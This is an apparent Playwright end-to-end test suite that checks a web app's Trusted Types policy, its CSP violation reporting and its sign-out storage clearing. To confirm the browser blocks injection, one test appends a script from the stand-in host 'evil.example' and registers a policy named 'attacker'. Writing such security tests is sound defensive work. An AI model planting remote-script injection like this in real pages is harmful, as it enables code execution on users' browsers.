// The app's Content Security Policy in the browser (docs/security-trusted-types.md): Trusted Types
// enforced, the app's own script sinks passing through its two named policies, anything else refused
// and reported to the local services; and the sign-out's return page clearing what the browser kept.
import { type Browser, type Page, chromium } from '@playwright/test'
import { chromiumArgs, chromiumPath } from '../../scripts/chromium.mjs'
import { expect, test, watchCspViolations } from './fixtures.ts'
import { accounts } from './models/accounts.ts'
import { CrewPortal } from './models/portal.model.ts'
import { origins } from './playwright.config.ts'

const PROBE = 'crew-e2e-probe'

/**
 * A browser that accepts the local certificate outright, as one that trusts the local authority
 * does: Chromium uploads Reporting API reports, and registers a service worker, only then (the
 * suite's own browser accepts it for page loads alone).
 */
async function trustingBrowser(run: (page: Page) => Promise<void>): Promise<void> {
  const browser: Browser = await chromium.launch({
    executablePath: chromiumPath,
    args: [...chromiumArgs, '--ignore-certificate-errors']
  })
  try {
    const context = await watchCspViolations(
      await browser.newContext({ baseURL: origins.app, ignoreHTTPSErrors: true })
    )
    await run(await context.newPage())
  } finally {
    await browser.close()
  }
}

test('a violation caused on purpose is seen by the page and reaches the local services through report-to', async ({
  services,
  cspViolations
}) => {
  cspViolations.expect((violation) => violation.sample.includes(PROBE))
  await trustingBrowser(async (page) => {
    await page.goto('/waiting')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    const refused = await page.evaluate((probe) => {
      try {
        document.body.insertAdjacentHTML('beforeend', `<b>${probe}</b>`)
        return 'inserted'
      } catch (error) {
        return String(error)
      }
    }, PROBE)
    expect(refused).toMatch(/requires 'TrustedHTML' assignment/)
    await expect(page.getByText(PROBE)).toHaveCount(0)
    // The page saw it at once; the browser reported it to the telemetry sink through the Reporting API.
    expect(
      (await cspViolations.all())
        .filter((violation) => violation.seenBy === 'event')
        .map((violation) => violation.effectiveDirective)
    ).toEqual(['require-trusted-types-for'])
    await expect
      .poll(
        async () =>
          (await services.cspReports())
            .filter((report) => report.sample.includes(PROBE))
            .map(({ via, documentURL, effectiveDirective, sample }) => ({
              via,
              documentURL,
              effectiveDirective,
              sample
            })),
        { timeout: 15_000 }
      )
      .toEqual([
        {
          via: 'report-to',
          documentURL: `${origins.app}/waiting`,
          effectiveDirective: 'require-trusted-types-for',
          sample: `Element insertAdjacentHTML|<b>${PROBE}</b>`
        }
      ])
  })
})

test('the survey script and the service worker pass their policies; no other policy or script URL gets through', async ({
  cspViolations,
  services
}) => {
  await trustingBrowser(async (page) => {
    const surveyLoads = await services.surveyLoads()
    await new CrewPortal(page).signInAs(accounts.fto)
    // The app's own sinks, under enforcement: the hosted survey's script and the worker. The survey's
    // script element goes once the script has run, so the sink's count says it was let through.
    await expect.poll(() => services.surveyLoads()).toBeGreaterThan(surveyLoads)
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready
    })
    expect(await cspViolations.all()).toEqual([])

    // What the policies stop: each attempt is refused and reported as a violation.
    const refused =
      (directive: string, sample: RegExp) => (violation: { effectiveDirective: string; sample: string }) =>
        violation.effectiveDirective === directive && sample.test(violation.sample)
    cspViolations.expect(refused('trusted-types', /^(attacker|crew-survey-script|crew-service-worker)$/))
    cspViolations.expect(refused('require-trusted-types-for', /evil\.example/))
    const outcomes = await page.evaluate(() => {
      const attempt = (run: () => unknown) => {
        try {
          run()
          return 'allowed'
        } catch (error) {
          return error instanceof Error ? error.name : String(error)
        }
      }
      const factory = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
        .trustedTypes
      const rules = { createScriptURL: (url: string) => url }
      return {
        // A policy of another name, or a second one under the app's names (no 'allow-duplicates').
        otherPolicy: attempt(() => factory.createPolicy('attacker', rules)),
        secondSurveyPolicy: attempt(() => factory.createPolicy('crew-survey-script', rules)),
        secondWorkerPolicy: attempt(() => factory.createPolicy('crew-service-worker', rules)),
        // A script from anywhere else, as a string.
        scriptUrl: attempt(() => {
          const script = document.createElement('script')
          script.src = 'https://evil.example/x.js'
          document.head.append(script)
        })
      }
    })
    expect(outcomes).toEqual({
      otherPolicy: 'TypeError',
      secondSurveyPolicy: 'TypeError',
      secondWorkerPolicy: 'TypeError',
      scriptUrl: 'TypeError'
    })
    await expect
      .poll(async () =>
        (await cspViolations.all())
          .filter((violation) => violation.seenBy === 'event')
          .map((violation) => violation.sample.split('|')[0])
          .sort()
      )
      .toEqual(['HTMLScriptElement src', 'attacker', 'crew-service-worker', 'crew-survey-script'].sort())
  })
})

test('a visit of / keeps what the browser holds; the page the sign-out returns to clears it', async ({
  portal,
  page
}) => {
  // Afresh: the test comes back through the identity provider's session, which a sign-out of an
  // earlier test may have ended.
  await portal.signInAs(accounts.fto, '/training', { fresh: true })
  await page.evaluate(() => localStorage.setItem('crew-e2e-stored', 'yes'))
  const home = await page.goto('/')
  // allHeaders: Playwright's headers() leaves security headers out.
  expect((await home?.allHeaders())?.['clear-site-data']).toBeUndefined()
  await expect(page).toHaveURL(/\/training$/)
  await expect(portal.userMenuButton).toBeVisible()
  expect(await page.evaluate(() => localStorage.getItem('crew-e2e-stored'))).toBe('yes')

  const signedOut = await page.goto('/signed-out.html')
  expect((await signedOut?.allHeaders())?.['clear-site-data']).toBe('"cache", "storage"')
  // Then the app's first page, as after a sign-out: here the identity provider's session was not
  // ended, so the pilot comes back signed in, with nothing of what the browser held before.
  await expect(page).toHaveURL(/\/training$/)
  await expect(portal.userMenuButton).toBeVisible()
  expect(await page.evaluate(() => localStorage.getItem('crew-e2e-stored'))).toBeNull()
})
